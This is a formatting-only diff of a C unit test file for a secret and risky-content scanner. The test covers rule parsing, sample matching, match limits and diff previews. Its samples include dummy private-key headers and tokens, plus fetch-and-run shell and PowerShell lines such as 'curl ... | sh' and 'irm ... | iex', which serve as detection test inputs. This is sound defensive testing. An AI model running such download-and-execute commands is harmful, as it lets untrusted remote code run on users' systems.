@@ -42,7 +42,7 @@ static void parser_good_file(void **state) {
       "\n"
       "   # an indented comment\n"
       "first_rule   critical  content  BEGIN\\s+SECRET\r\n" /* CRLF line end */
-      "\tsecond low path (?:^|/)\\.env$   \n"              /* leading tab, trailing blanks */
+      "\tsecond low path (?:^|/)\\.env$   \n" /* leading tab, trailing blanks */
       "third_1 medium builtin:binary 0\n"
       "fourth high content a b c"); /* no final newline; blanks inside the pattern are kept */
   assert_int_equal(jb_scan_rules_count(r), 4);
@@ -62,8 +62,10 @@ static void parser_good_file(void **state) {
   json_decref(f);
   f = jb_scan_run(r, "d/.env", (const unsigned char *)"BEGIN \n SECRET", 14);
   assert_int_equal(json_array_size(f), 2);
-  assert_string_equal(json_string_value(json_object_get(json_array_get(f, 0), "rule")), "first_rule");
-  assert_string_equal(json_string_value(json_object_get(json_array_get(f, 0), "severity")), "critical");
+  assert_string_equal(json_string_value(json_object_get(json_array_get(f, 0), "rule")),
+                      "first_rule");
+  assert_string_equal(json_string_value(json_object_get(json_array_get(f, 0), "severity")),
+                      "critical");
   assert_string_equal(json_string_value(json_object_get(json_array_get(f, 1), "rule")), "second");
   json_t *ids = jb_scan_rule_ids(f);
   assert_int_equal(json_array_size(ids), 2);
@@ -166,10 +168,10 @@ static void parser_files(void **state) {
 
 struct sample {
   const char *rule; /* the rule the sample is for */
-  bool flagged;     /* true: `rule` must be among the findings; false: no finding at all */
+  bool flagged; /* true: `rule` must be among the findings; false: no finding at all */
   const char *path;
-  const char *content;                   /* NUL-terminated text, or … */
-  size_t (*make)(unsigned char *buf);   /* … bytes made by this (buf holds 64 KiB) */
+  const char *content; /* NUL-terminated text, or … */
+  size_t (*make)(unsigned char *buf); /* … bytes made by this (buf holds 64 KiB) */
 };
 
 static size_t utf16_key(unsigned char *b) {
@@ -190,7 +192,10 @@ static size_t zeros_8192(unsigned char *b) { return memset(b, 0, 8192), 8192; }
 static size_t text_20000(unsigned char *b) { return memset(b, 'x', 20000), 20000; }
 static size_t elf_like(unsigned char *b) {
   memset(b, 0x90, 40000);
-  memcpy(b, "\x7f" "ELF\2\1\1\0", 8);
+  memcpy(b,
+         "\x7f"
+         "ELF\2\1\1\0",
+         8);
   return 40000;
 }
 
@@ -199,13 +204,18 @@ static const struct sample samples[] = {
     {"private_key", true, "k", "-----BEGIN OPENSSH PRIVATE KEY-----\n", NULL},
     {"private_key", true, "k", "-----BEGIN PRIVATE KEY-----\n", NULL},
     {"private_key", true, "k", "-----BEGIN ENCRYPTED PRIVATE KEY-----\n", NULL},
-    {"private_key", true, "k", "-----BEGIN OPENSSH PRIVATE\nKEY-----\n", NULL}, /* split across lines */
-    {"private_key", true, "k.txt", NULL, utf16_key},                             /* UTF-16LE */
-    {"private_key", true, "kubeconfig", "    client-key-data: LS0tLS1CRUdJTiBSU0EgUFJJVkFURSBLRVktLS0tLQo=\n", NULL},
-    {"private_key", true, "s.yaml", "tls.key: LS0tLS1CRUdJTiBQUklWQVRFIEtFWS0tLS0tCk1JSUU=\n", NULL},
+    {"private_key", true, "k", "-----BEGIN OPENSSH PRIVATE\nKEY-----\n",
+     NULL}, /* split across lines */
+    {"private_key", true, "k.txt", NULL, utf16_key}, /* UTF-16LE */
+    {"private_key", true, "kubeconfig",
+     "    client-key-data: LS0tLS1CRUdJTiBSU0EgUFJJVkFURSBLRVktLS0tLQo=\n", NULL},
+    {"private_key", true, "s.yaml", "tls.key: LS0tLS1CRUdJTiBQUklWQVRFIEtFWS0tLS0tCk1JSUU=\n",
+     NULL},
     {"private_key", true, "s.yaml", "k: LS0tLS1CRUdJTiBPUEVOU1NIIFBSSVZBVEUgS0VZLS0tLS0K\n", NULL},
-    {"private_key", false, "kubeconfig", "certificate-authority-data: LS0tLS1CRUdJTiBDRVJUSUZJQ0FURS0tLS0tCk1JSUM=\n", NULL},
-    {"private_key", false, "k.b64", "LS0tLS1CRUdJTiBQVUJMSUMgS0VZLS0tLS0K\n", NULL}, /* a public key */
+    {"private_key", false, "kubeconfig",
+     "certificate-authority-data: LS0tLS1CRUdJTiBDRVJUSUZJQ0FURS0tLS0tCk1JSUM=\n", NULL},
+    {"private_key", false, "k.b64", "LS0tLS1CRUdJTiBQVUJMSUMgS0VZLS0tLS0K\n",
+     NULL}, /* a public key */
     {"private_key", false, "k", "-----BEGIN PUBLIC KEY-----\n", NULL},
     {"private_key", false, "k", "a private key begins with BEGIN\n", NULL},
     {"aws_access_key_id", true, "c", "aws_access_key_id = AKIAIOSFODNN7EXAMPLE\n", NULL},
@@ -213,7 +223,8 @@ static const struct sample samples[] = {
     {"aws_access_key_id", false, "c", "AKIAIOSFODNN7EXAMPL is too short\n", NULL},
     {"aws_access_key_id", false, "c", "XAKIAIOSFODNN7EXAMPLEX is inside a word\n", NULL},
     {"github_token", true, "c", "token: ghp_0123456789abcdefghijABCDEFGHIJ012345\n", NULL},
-    {"github_token", true, "c", "github_pat_11ABCDEFG0123456789_abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMN\n", NULL},
+    {"github_token", true, "c",
+     "github_pat_11ABCDEFG0123456789_abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMN\n", NULL},
     {"github_token", true, "c.txt", NULL, utf16be_token}, /* UTF-16BE with a byte-order mark */
     {"github_token", false, "c", "ghp_tooshort\n", NULL},
     {"gitlab_token", true, "c", "glpat-abcdefghij0123456789\n", NULL},
@@ -229,7 +240,8 @@ static const struct sample samples[] = {
     {"download_and_execute", true, "s.sh", "curl -fsSL https://x.example/i | python3\n", NULL},
     {"download_and_execute", true, "s.sh", "bash <(curl -fsSL https://x.example/i)\n", NULL},
     {"download_and_execute", true, "s.sh", "sh -c \"$(curl -fsSL https://x.example/i)\"\n", NULL},
-    {"download_and_execute", true, "s.sh", "curl -fsSL https://cdn.example.com/www/install | sh\n", NULL},
+    {"download_and_execute", true, "s.sh", "curl -fsSL https://cdn.example.com/www/install | sh\n",
+     NULL},
     {"download_and_execute", true, "s.sh", "curl -o a https://x/a; curl https://x/b | zsh\n", NULL},
     {"download_and_execute", true, "s.sh", "curl https://x.example/wget.sh | sh\n", NULL},
     /* forms that went past an earlier pattern (breakscan) */
@@ -252,7 +264,8 @@ static const struct sample samples[] = {
     {"download_and_execute", true, "s.sh", "sh -c '$(curl -fsSL https://x/i)'\n", NULL},
     {"download_and_execute", true, "s.sh", "bash <<< \"$(curl -fsSL https://x/i)\"\n", NULL},
     {"download_and_execute", true, "a.ps1", "irm https://x/i | iex\n", NULL},
-    {"download_and_execute", true, "a.ps1", "IEX (New-Object Net.WebClient).DownloadString('https://x/i')\n", NULL},
+    {"download_and_execute", true, "a.ps1",
+     "IEX (New-Object Net.WebClient).DownloadString('https://x/i')\n", NULL},
     {"download_and_execute", true, "s.sh", "curl -fsSL https://x/i | sh\r\n", NULL},
     {"download_and_execute", false, "s.sh", "curl -fsSL https://x/i | grep -q bash\n", NULL},
     {"download_and_execute", false, "s.sh", "curl -fsSL https://x/i | tee shell.log\n", NULL},
@@ -260,11 +273,13 @@ static const struct sample samples[] = {
     {"download_and_execute", false, "s.sh", "echo \"$(curl -fsSL https://x/version)\"\n", NULL},
     {"download_and_execute", false, "s.sh", "curl -o out.tgz https://x.example/a.tgz\n", NULL},
     {"download_and_execute", false, "s.sh", "curl -fsSL https://x.example/i | tee log\n", NULL},
-    {"download_and_execute", false, "s.sh", "curl -o i.sh https://x.example/i\n| sh is on the next line\n", NULL},
+    {"download_and_execute", false, "s.sh",
+     "curl -o i.sh https://x.example/i\n| sh is on the next line\n", NULL},
     {"git_hooks", true, ".git/hooks/pre-commit", "#!/bin/sh\n", NULL},
     {"git_hooks", true, "sub/.git/hooks/post-checkout", "#!/bin/sh\n", NULL},
     {"git_hooks", true, ".git/modules/m/hooks/pre-commit", "#!/bin/sh\n", NULL}, /* a submodule's */
-    {"git_hooks", true, ".GIT/Hooks/pre-commit", "#!/bin/sh\n", NULL}, /* case-insensitive file systems */
+    {"git_hooks", true, ".GIT/Hooks/pre-commit", "#!/bin/sh\n",
+     NULL}, /* case-insensitive file systems */
     {"git_hooks", true, ".husky/pre-commit", "npm test\n", NULL},
     {"git_hooks", true, ".githooks/pre-push", "#!/bin/sh\n", NULL},
     {"git_config", true, ".git/config.worktree", "[core]\n\tfsmonitor = ./x\n", NULL},
@@ -311,7 +326,8 @@ static const struct sample samples[] = {
 };
 #define N_SAMPLES (sizeof samples / sizeof samples[0])
 
-static void check_sample(const struct jb_scan_rules *r, const struct sample *s, unsigned char *buf) {
+static void check_sample(const struct jb_scan_rules *r, const struct sample *s,
+                         unsigned char *buf) {
   size_t len = s->make ? s->make(buf) : strlen(s->content);
   const unsigned char *data = s->make ? buf : (const unsigned char *)s->content;
   json_t *f = jb_scan_run(r, s->path, data, len);
@@ -319,12 +335,13 @@ static void check_sample(const struct jb_scan_rules *r, const struct sample *s, 
   bool found = false;
   size_t i;
   json_t *v;
-  json_array_foreach(f, i, v) {
+  json_array_foreach (f, i, v) {
     found = found || !strcmp(json_string_value(json_object_get(v, "rule")), s->rule);
     assert_null(json_object_get(v, "error")); /* no sample may reach a limit */
   }
   if (s->flagged && !found)
-    fail_msg("rule %s did not flag %s: %.60s", s->rule, s->path, s->content ? s->content : "(bytes)");
+    fail_msg("rule %s did not flag %s: %.60s", s->rule, s->path,
+             s->content ? s->content : "(bytes)");
   if (!s->flagged && json_array_size(f) != 0)
     fail_msg("clean sample for %s (%s: %.60s) flagged by %s", s->rule, s->path,
              s->content ? s->content : "(bytes)",
@@ -343,14 +360,18 @@ static void every_rule_has_samples(void **state) {
     for (size_t i = 0; i < N_SAMPLES; i++)
       if (!strcmp(samples[i].rule, id)) samples[i].flagged ? flagged++ : clean++;
     if (!flagged || !clean)
-      fail_msg("rule %s of deploy/scan-rules has %d flagged and %d clean samples: add both to samples[]",
-               id, flagged, clean);
+      fail_msg(
+          "rule %s of deploy/scan-rules has %d flagged and %d clean samples: add both to samples[]",
+          id, flagged, clean);
   }
   /* and the other way: every sample names a rule that exists (or "any" for plain text) */
   for (size_t i = 0; i < N_SAMPLES; i++) {
     bool known = !strcmp(samples[i].rule, "any");
-    for (size_t k = 0; k < jb_scan_rules_count(r) && !known; k++) known = !strcmp(samples[i].rule, jb_scan_rule_id(r, k));
-    if (!known) fail_msg("sample %zu names rule %s, which deploy/scan-rules does not have", i, samples[i].rule);
+    for (size_t k = 0; k < jb_scan_rules_count(r) && !known; k++)
+      known = !strcmp(samples[i].rule, jb_scan_rule_id(r, k));
+    if (!known)
+      fail_msg("sample %zu names rule %s, which deploy/scan-rules does not have", i,
+               samples[i].rule);
   }
   jb_scan_rules_free(r);
 }
@@ -395,9 +416,25 @@ static void match_limit(void **state) {
   assert_int_equal(jb_scan_rules_load(NULL, &d, &err), 0);
   size_t n = 1024 * 1024;
   char *big = malloc(n);
-  static const char *const nearly[] = {"curl ", "curl -x cwcw ", "BEGIN ", "BEGIN RSA ", "AKIA", "ghp_", "sh <(", "xox",
-                                       "curl | sudo a b c d e f g ", "curl -s \\\n", "eval \"$(", "sh -c -x ", "iwr a ", "iex (", "curl a|b",
-                                       "| sudo a b c d e f g h ", " /a/a/a", "LS0tLS1CRUdJTi", NULL};
+  static const char *const nearly[] = {"curl ",
+                                       "curl -x cwcw ",
+                                       "BEGIN ",
+                                       "BEGIN RSA ",
+                                       "AKIA",
+                                       "ghp_",
+                                       "sh <(",
+                                       "xox",
+                                       "curl | sudo a b c d e f g ",
+                                       "curl -s \\\n",
+                                       "eval \"$(",
+                                       "sh -c -x ",
+                                       "iwr a ",
+                                       "iex (",
+                                       "curl a|b",
+                                       "| sudo a b c d e f g h ",
+                                       " /a/a/a",
+                                       "LS0tLS1CRUdJTi",
+                                       NULL};
   for (size_t k = 0; nearly[k]; k++) {
     size_t w = strlen(nearly[k]), m = n - n % w;
     for (size_t i = 0; i + w <= m; i += w) memcpy(big + i, nearly[k], w);
@@ -431,7 +468,8 @@ static void diff_preview(void **state) {
   jb_error err = {0};
   const char *old = "one\ntwo\nthree\n", *neu = "one\n2\nthree\n";
   assert_int_equal(jb_diff_preview("a.txt", (const unsigned char *)old, strlen(old), true,
-                                   (const unsigned char *)neu, strlen(neu), 65536, &d, &err), 0);
+                                   (const unsigned char *)neu, strlen(neu), 65536, &d, &err),
+                   0);
   const char *t = json_string_value(json_object_get(d, "text"));
   assert_non_null(t);
   assert_non_null(strstr(t, "--- a/a.txt\n+++ b/a.txt\n"));
@@ -441,23 +479,32 @@ static void diff_preview(void **state) {
   assert_int_equal(json_integer_value(json_object_get(d, "bytes")), strlen(t));
   json_decref(d);
   /* a new file */
-  assert_int_equal(jb_diff_preview("n.txt", NULL, 0, false, (const unsigned char *)"hi\n", 3, 65536, &d, &err), 0);
+  assert_int_equal(
+      jb_diff_preview("n.txt", NULL, 0, false, (const unsigned char *)"hi\n", 3, 65536, &d, &err),
+      0);
   t = json_string_value(json_object_get(d, "text"));
   assert_non_null(strstr(t, "--- /dev/null\n"));
   assert_non_null(strstr(t, "+hi\n"));
   json_decref(d);
   /* binary on either side, and previews switched off: null */
-  assert_int_equal(jb_diff_preview("b", (const unsigned char *)"a\0b", 3, true, (const unsigned char *)"x", 1, 65536, &d, &err), 0);
+  assert_int_equal(jb_diff_preview("b", (const unsigned char *)"a\0b", 3, true,
+                                   (const unsigned char *)"x", 1, 65536, &d, &err),
+                   0);
   assert_true(json_is_null(d));
-  assert_int_equal(jb_diff_preview("b", (const unsigned char *)"x", 1, true, (const unsigned char *)"\xff\xfe", 2, 65536, &d, &err), 0);
+  assert_int_equal(jb_diff_preview("b", (const unsigned char *)"x", 1, true,
+                                   (const unsigned char *)"\xff\xfe", 2, 65536, &d, &err),
+                   0);
   assert_true(json_is_null(d));
-  assert_int_equal(jb_diff_preview("b", (const unsigned char *)"x", 1, true, (const unsigned char *)"y", 1, 0, &d, &err), 0);
+  assert_int_equal(jb_diff_preview("b", (const unsigned char *)"x", 1, true,
+                                   (const unsigned char *)"y", 1, 0, &d, &err),
+                   0);
   assert_true(json_is_null(d));
   /* truncated at a line end within the limit */
   char *big = malloc(100000);
   size_t n = 0;
   for (int i = 0; i < 5000; i++) n += (size_t)snprintf(big + n, 100000 - n, "line %d\n", i);
-  assert_int_equal(jb_diff_preview("big", NULL, 0, false, (const unsigned char *)big, n, 1000, &d, &err), 0);
+  assert_int_equal(
+      jb_diff_preview("big", NULL, 0, false, (const unsigned char *)big, n, 1000, &d, &err), 0);
   t = json_string_value(json_object_get(d, "text"));
   assert_true(json_is_true(json_object_get(d, "truncated")));
   assert_true(strlen(t) <= 1000 && strlen(t) > 900);
@@ -469,13 +516,16 @@ static void diff_preview(void **state) {
   assert_true(strlen(t2) <= 300 && strlen(t2) > 250 && t2[strlen(t2) - 1] == '\n');
   assert_int_equal(strncmp(t, t2, strlen(t2)), 0);
   assert_true(json_is_true(json_object_get(s2, "truncated")));
-  assert_int_equal(json_integer_value(json_object_get(s2, "bytes")), json_integer_value(json_object_get(d, "bytes")));
+  assert_int_equal(json_integer_value(json_object_get(s2, "bytes")),
+                   json_integer_value(json_object_get(d, "bytes")));
   json_decref(s2);
   s2 = jb_diff_shorten(json_null(), 10);
   assert_true(json_is_null(s2));
   json_decref(d);
   /* a short diff is not cut by shortening to more than its length */
-  assert_int_equal(jb_diff_preview("a", (const unsigned char *)"x\n", 2, true, (const unsigned char *)"y\n", 2, 65536, &d, &err), 0);
+  assert_int_equal(jb_diff_preview("a", (const unsigned char *)"x\n", 2, true,
+                                   (const unsigned char *)"y\n", 2, 65536, &d, &err),
+                   0);
   s2 = jb_diff_shorten(d, 65536);
   assert_true(json_equal(s2, d));
   json_decref(s2);
@@ -483,7 +533,8 @@ static void diff_preview(void **state) {
   /* one long line of multi-byte characters: cut on a character boundary */
   n = 0;
   for (int i = 0; i < 3000; i++) memcpy(big + n, "\xc3\xa9", 2), n += 2;
-  assert_int_equal(jb_diff_preview("e", NULL, 0, false, (const unsigned char *)big, n, 1001, &d, &err), 0);
+  assert_int_equal(
+      jb_diff_preview("e", NULL, 0, false, (const unsigned char *)big, n, 1001, &d, &err), 0);
   assert_non_null(json_object_get(d, "text")); /* valid UTF-8, or jansson would have refused it */
   assert_true(json_string_length(json_object_get(d, "text")) <= 1001);
   json_decref(d);
@@ -492,12 +543,9 @@ static void diff_preview(void **state) {
 
 int main(void) {
   const struct CMUnitTest tests[] = {
-      cmocka_unit_test(parser_good_file),
-      cmocka_unit_test(parser_bad_lines),
-      cmocka_unit_test(parser_files),
-      cmocka_unit_test(every_rule_has_samples),
-      cmocka_unit_test(samples_match),
-      cmocka_unit_test(match_limit),
+      cmocka_unit_test(parser_good_file), cmocka_unit_test(parser_bad_lines),
+      cmocka_unit_test(parser_files),     cmocka_unit_test(every_rule_has_samples),
+      cmocka_unit_test(samples_match),    cmocka_unit_test(match_limit),
       cmocka_unit_test(diff_preview),
   };
   return cmocka_run_group_tests(tests, NULL, NULL);
